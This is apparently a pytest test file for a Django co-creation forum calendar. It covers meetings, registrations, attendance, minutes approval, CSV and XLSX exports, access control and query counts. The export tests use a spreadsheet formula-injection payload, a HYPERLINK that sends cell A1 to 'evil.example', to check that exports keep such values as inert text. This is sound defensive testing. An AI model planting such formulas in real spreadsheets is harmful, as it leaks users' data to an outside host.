"""The coordinators' pages of the co-creation calendar: meetings, people, attendance, minutes, exports,
permissions; and the public pages' fixed number of queries."""

import csv
import datetime
import io
import uuid
import zoneinfo

import pytest
from django.core import mail
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from samskap.accounts.models import RoleGrant
from samskap.forum import services
from samskap.forum.models import Meeting, Member, Minutes, Outcome, Registration
from samskap.organisations.models import Organisation
from tests import factories as f

OSLO = zoneinfo.ZoneInfo("Europe/Oslo")
pytestmark = pytest.mark.django_db


def coordinator(client, place):
    client.force_login(f.user(role=RoleGrant.Role.COORDINATOR, scope=place))


def sign_up(meeting, name, organisation="", **values):
    return services.register(
        meeting=meeting,
        form_token=uuid.uuid4(),
        values={"name": name, "email": f"{uuid.uuid4().hex[:8]}@example.org", "organisation": organisation, **values},
    ).registration


def meeting_form(**changes):
    values = {
        "title": "Interessentforum om handlingsplan 6",
        "description": "Forslag til forpliktelser.",
        "starts_at": "2027-03-02T09:00",
        "ends_at": "2027-03-02T12:30",
        "address": "Akersgata 59",
        "room": "2511",
        "access": "open",
        "registration_closes_at": "2027-02-23T12:00",
        "capacity": "30",
        "reserved_seats": "5",
        "per_organisation": "",
        "reminder_hours": "24",
        "agenda": "Velkommen | 15\nDepartementenes forslag | 60\nVeien videre",
    }
    values.update(changes)
    return values


def test_a_coordinator_creates_a_meeting_in_the_jurisdictions_time(client):
    place = f.jurisdiction()
    f.forum(place)
    coordinator(client, place)

    response = client.post(reverse("forum:meeting_create", kwargs={"jurisdiction": place.slug}), meeting_form())

    meeting = Meeting.objects.get()
    assert response.status_code == 302 and response["Location"] == meeting.url("manage_meeting")
    assert meeting.starts_at == datetime.datetime(2027, 3, 2, 9, 0, tzinfo=OSLO)
    assert meeting.registration_closes_at == datetime.datetime(2027, 2, 23, 12, 0, tzinfo=OSLO)
    assert meeting.slug == "interessentforum-om-handlingsplan-6"
    assert [(i.title, i.minutes) for i in meeting.agenda.all()] == [
        ("Velkommen", 15),
        ("Departementenes forslag", 60),
        ("Veien videre", None),
    ]
    # The form shows the times as entered, in Oslo's time.
    page = client.get(meeting.url("meeting_edit")).content.decode()
    assert 'value="2027-03-02T09:00"' in page


def test_a_meeting_that_ends_before_it_starts_is_refused_with_the_entries_kept(client):
    place = f.jurisdiction()
    f.forum(place)
    coordinator(client, place)

    response = client.post(
        reverse("forum:meeting_create", kwargs={"jurisdiction": place.slug}),
        meeting_form(ends_at="2027-03-02T08:00"),
    )

    assert response.status_code == 400
    assert not Meeting.objects.exists()
    assert "Interessentforum om handlingsplan 6" in response.content.decode()


def test_moving_a_meeting_emails_everyone_registered_with_the_new_time(client):
    meeting = f.meeting()
    coming, waiting = sign_up(meeting, "Kari"), sign_up(meeting, "Ola")
    Registration.objects.filter(pk=waiting.pk).update(status=Registration.Status.WAITLISTED)
    coordinator(client, meeting.forum.jurisdiction)
    with timezone.override(OSLO):
        start = meeting.local_start + datetime.timedelta(days=1)
    mail.outbox.clear()

    response = client.post(
        meeting.url("meeting_edit"),
        meeting_form(
            title=meeting.title,
            starts_at=start.strftime("%Y-%m-%dT%H:%M"),
            ends_at=(start + datetime.timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M"),
            registration_closes_at=meeting.local_deadline.strftime("%Y-%m-%dT%H:%M"),
            room="2620",
            capacity="",
            reserved_seats="0",
        ),
    )

    assert response.status_code == 302
    meeting.refresh_from_db()
    assert meeting.room == "2620" and meeting.sequence == 1
    assert meeting.slug.startswith("mote-")  # the address stays when the title is unchanged
    assert sorted(m.to[0] for m in mail.outbox) == sorted([coming.email, waiting.email])
    with_calendar = [m for m in mail.outbox if m.attachments]
    assert [m.to[0] for m in with_calendar] == [coming.email]  # the waiting list gets no calendar entry


def test_the_coordinator_adds_someone_after_the_deadline(client):
    start = timezone.now() + datetime.timedelta(days=2)
    meeting = f.meeting(starts_at=start, ends_at=start + datetime.timedelta(hours=2), registration_closes_at=start)
    Meeting.objects.filter(pk=meeting.pk).update(registration_closes_at=timezone.now() - datetime.timedelta(hours=1))
    meeting.refresh_from_db()
    form = {"form_token": str(uuid.uuid4()), "name": "Sen Påmelding", "email": "sen@example.org"}

    public = client.post(meeting.url("register"), form)
    assert public.status_code == 409
    assert not meeting.registrations.exists()

    coordinator(client, meeting.forum.jurisdiction)
    response = client.post(meeting.url("manage_meeting"), {"action": "add", **form})

    assert response.status_code == 302
    added = meeting.registrations.get()
    assert added.added_by_coordinator and added.confirmed_at is not None
    assert added.status == Registration.Status.ATTENDING


def test_attendance_is_recorded_and_a_wrong_value_refused(client):
    meeting = f.meeting()
    person = sign_up(meeting, "Kari")
    coordinator(client, meeting.forum.jurisdiction)

    client.post(
        meeting.url("manage_meeting"), {"action": "attendance", "registration": person.pk, "attendance": "present"}
    )
    person.refresh_from_db()
    assert person.attendance == Registration.Attendance.PRESENT

    client.post(meeting.url("manage_meeting"), {"action": "attendance", "registration": person.pk, "attendance": "x"})
    person.refresh_from_db()
    assert person.attendance == Registration.Attendance.PRESENT

    other = sign_up(f.meeting(jurisdiction=meeting.forum.jurisdiction), "Ola")
    response = client.post(
        meeting.url("manage_meeting"), {"action": "attendance", "registration": other.pk, "attendance": "absent"}
    )
    assert response.status_code == 404  # a registration of another meeting is not reached through this one


def test_the_minutes_go_from_draft_to_corrections_to_approved(client):
    meeting = f.meeting()
    present, absent = sign_up(meeting, "Kari"), sign_up(meeting, "Ola")
    services.set_attendance(actor=None, registration=absent, attendance="absent")
    coordinator(client, meeting.forum.jurisdiction)
    url = meeting.url("minutes")

    bad = client.post(url, {"action": "save", "text": "Referat.", "actions": "Sende ut | KMD | snart"})
    assert bad.status_code == 400 and not Minutes.objects.exists()

    saved = client.post(
        url,
        {
            "action": "save",
            "text": "Forumet drøftet forslagene.",
            "decisions": "Forslagene tas med videre.",
            "actions": "Sende ut oppsummering | KMD | 2027-01-15",
        },
    )
    assert saved.status_code == 302
    minutes = Minutes.objects.get(meeting=meeting)
    assert minutes.status == Minutes.Status.DRAFT
    assert [(o.kind, o.who, o.due_on) for o in minutes.outcomes.all()] == [
        ("action", "KMD", datetime.date(2027, 1, 15)),
        ("decision", "", None),
    ]
    assert "Forumet drøftet" not in client.get(meeting.get_absolute_url()).content.decode()

    mail.outbox.clear()
    client.post(url, {"action": "send"})
    minutes.refresh_from_db()
    assert minutes.status == Minutes.Status.CORRECTIONS
    assert [m.to for m in mail.outbox] == [[present.email]]  # not to the one marked absent

    client.post(url, {"action": "approve"})
    minutes.refresh_from_db()
    assert minutes.status == Minutes.Status.APPROVED
    assert "Forumet drøftet forslagene." in client.get(meeting.get_absolute_url()).content.decode()

    again = client.post(url, {"action": "send"}, follow=True)
    assert "not at that step" in again.content.decode()
    edited = client.post(url, {"action": "save", "text": "Endret."}, follow=True)
    assert "not at that step" in edited.content.decode()
    minutes.refresh_from_db()
    assert minutes.text == "Forumet drøftet forslagene."


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Klikk")'


def test_the_csv_export_never_makes_a_formula(client):
    meeting = f.meeting()
    sign_up(meeting, FORMULA, organisation="+SUM(1;2)", needs="Rullestol")
    coordinator(client, meeting.forum.jurisdiction)

    response = client.get(meeting.url("export_csv"))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert any("HYPERLINK" in cell for cell in rows[1])
    assert "Rullestol" in rows[1]


def test_the_xlsx_export_keeps_the_formula_as_text(client):
    from openpyxl import load_workbook

    meeting = f.meeting()
    sign_up(meeting, FORMULA, organisation="@evil")
    coordinator(client, meeting.forum.jurisdiction)

    response = client.get(meeting.url("export_xlsx"))

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 1
    name = next(cell for cell in rows[0] if "HYPERLINK" in str(cell.value))
    assert name.data_type == "s"  # a string, not a formula ("f")
    assert all(cell.data_type != "f" for cell in rows[0])


def test_the_printable_list_has_those_with_a_seat_only(client):
    meeting = f.meeting(capacity=1)
    seated = sign_up(meeting, "Kari Nordmann", organisation="Wikimedia Norge")
    waiting = sign_up(meeting, "Ola Venteliste")
    coordinator(client, meeting.forum.jurisdiction)

    response = client.get(meeting.url("participants"))

    page = response.content.decode()
    assert response.status_code == 200
    assert seated.name in page and "Wikimedia Norge" in page
    assert waiting.name not in page
    assert seated.email not in page  # a printed list lies on a table: no addresses


@pytest.mark.parametrize(
    "name", ["manage_meeting", "meeting_edit", "minutes", "export_csv", "export_xlsx", "participants"]
)
def test_another_jurisdictions_coordinator_is_refused_and_anonymous_sent_to_log_in(client, name):
    meeting = f.meeting()
    sign_up(meeting, "Kari")
    url = meeting.url(name)

    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "/accounts/login/" in anonymous["Location"]

    coordinator(client, f.jurisdiction())
    assert client.get(url).status_code == 403
    assert client.post(url, {"action": "approve"}).status_code == 403


def test_the_forum_and_new_meeting_pages_refuse_other_coordinators(client):
    meeting = f.meeting()
    place = meeting.forum.jurisdiction
    for url in (
        reverse("forum:manage", kwargs={"jurisdiction": place.slug}),
        reverse("forum:meeting_create", kwargs={"jurisdiction": place.slug}),
    ):
        client.logout()
        assert "/accounts/login/" in client.get(url)["Location"]
        coordinator(client, f.jurisdiction())
        assert client.get(url).status_code == 403
        assert client.post(url, meeting_form()).status_code == 403
    assert Meeting.objects.count() == 1


def queries(client, url):
    """The queries of rendering the page (the page cache is emptied first: it would answer with one)."""
    cache.clear()
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    assert response.status_code == 200
    return len(captured)


def test_the_meeting_page_takes_as_many_queries_however_many_come(client):
    meeting = f.meeting()
    sign_up(meeting, "Første", show_publicly=True)
    for registration in meeting.registrations.all():
        services.confirm_registration(registration=registration)
    minutes = services.save_minutes(
        actor=None, meeting=meeting, text="Referat.", outcomes=[{"kind": "decision", "text": "Ja"}]
    )
    services.approve_minutes(actor=None, minutes=minutes)
    client.get(meeting.get_absolute_url())  # caches warmed
    few = queries(client, meeting.get_absolute_url())

    for n in range(25):
        person = sign_up(meeting, f"Person {n}", organisation=f"Organisasjon {n}", show_publicly=True)
        services.confirm_registration(registration=person)
        Outcome.objects.create(minutes=minutes, kind="action", text=f"Tiltak {n}", who=f"Organisasjon {n}")

    page = client.get(meeting.get_absolute_url()).content.decode()
    assert "Person 24" in page and "Tiltak 24" in page
    assert queries(client, meeting.get_absolute_url()) == few


def test_the_forum_page_takes_as_many_queries_however_many_members_and_meetings(client):
    place = f.jurisdiction()
    forum = f.forum(place)

    def add(n):
        for i in range(n):
            kind = Organisation.Type.MINISTRY if i % 2 else Organisation.Type.CIVIL_SOCIETY
            organisation = f.organisation(jurisdiction=place, type=kind)
            role = Member.Role.OBSERVER if i % 5 == 0 else Member.Role.MEMBER
            Member.objects.create(forum=forum, organisation=organisation, role=role)
            meeting = f.meeting(jurisdiction=place)
            sign_up(meeting, f"Person {i}")

    add(2)
    url = forum.get_absolute_url()
    client.get(url)
    few = queries(client, url)
    add(20)
    assert queries(client, url) == few


def test_a_coordinator_changes_and_removes_a_phase_and_both_are_in_the_plans_history(client):
    from samskap.forum.models import Phase
    from samskap.history.models import ChangeRecord

    plan = f.plan()
    phase = services.save_phase(
        actor=None,
        plan=plan,
        values={
            "kind": Phase.Kind.CONSULTATION,
            "title": "Innspillsrunde",
            "starts_on": datetime.date(2027, 1, 4),
            "ends_on": datetime.date(2027, 2, 1),
        },
    )
    address = reverse(
        "forum:phase_edit", kwargs={"jurisdiction": plan.jurisdiction.slug, "plan": plan.slug, "pk": phase.pk}
    )
    assert client.get(address).status_code == 302  # to the login page
    coordinator(client, plan.jurisdiction)
    assert client.get(address).status_code == 200
    values = {
        "kind": phase.kind,
        "title": "Skriftlig innspillsrunde",
        "starts_on": "2027-01-04",
        "ends_on": "2026-12-01",
    }
    assert client.post(address, values).status_code == 400, "an end before the start is refused"
    assert Phase.objects.get(pk=phase.pk).title == "Innspillsrunde"
    assert client.post(address, {**values, "ends_on": "2027-02-15"}).status_code == 302
    assert Phase.objects.get(pk=phase.pk).title == "Skriftlig innspillsrunde"
    assert client.post(address, {"action": "delete"}).status_code == 302
    assert not Phase.objects.filter(pk=phase.pk).exists()
    actions = list(ChangeRecord.objects.filter(plan=plan, content_type__model="phase").values_list("action", flat=True))
    assert sorted(actions) == ["created", "deleted", "updated"]


def test_a_coordinator_edits_and_removes_a_member_of_their_own_forum_only(client):
    place = f.jurisdiction()
    forum = f.forum(place)
    organisation = f.organisation(jurisdiction=place)
    member = services.save_member(actor=None, forum=forum, values={"organisation": organisation, "role": "member"})
    address = reverse("forum:member_edit", kwargs={"jurisdiction": place.slug, "pk": member.pk})
    coordinator(client, f.jurisdiction())
    assert client.get(address).status_code == 403
    coordinator(client, place)
    page = client.get(address).content.decode()
    assert organisation.name in page
    response = client.post(address, {"organisation": organisation.pk, "role": "observer", "representative": "Kari"})
    assert response.status_code == 302
    member.refresh_from_db()
    assert (member.role, member.representative) == ("observer", "Kari")
    assert client.post(address, {"action": "delete"}).status_code == 302
    assert not Member.objects.filter(pk=member.pk).exists()


@pytest.mark.parametrize(
    ("closes", "shown"),
    [
        (datetime.datetime(2027, 6, 13, 0, 0, tzinfo=OSLO), "end of June 12, 2027"),
        (datetime.datetime(2027, 6, 12, 15, 30, tzinfo=OSLO), "June 12, 2027 3:30 p.m."),
    ],
)
def test_the_registration_deadline_reads_as_it_was_given(client, closes, shown):
    """A deadline given as a date is the end of that day, as consultations show theirs ("end of 12 June"),
    not the next day at 00:00."""
    start = datetime.datetime(2027, 6, 19, 10, 0, tzinfo=OSLO)
    meeting = f.meeting(starts_at=start, ends_at=start + datetime.timedelta(hours=2), registration_closes_at=closes)
    for name in ("meeting", "register"):
        with translation.override("en"):
            page = client.get(meeting.url(name)).content.decode()
        assert shown in page, name
        assert "June 13, 2027" not in page
